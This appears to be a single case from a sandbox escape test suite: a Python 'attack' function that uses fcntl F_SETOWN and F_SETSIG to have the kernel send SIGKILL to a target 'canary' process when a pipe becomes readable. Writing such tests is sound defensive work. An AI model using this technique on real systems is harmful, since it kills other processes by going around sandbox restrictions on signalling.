"""Has the kernel signal another process when a pipe becomes readable."""

import fcntl
import os
import signal

KIND = "killed"


F_SETSIG = 10


def attack(canary):
    ours, theirs = os.pipe()
    fcntl.fcntl(ours, fcntl.F_SETOWN, canary["process"])
    fcntl.fcntl(ours, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(theirs, b"now")
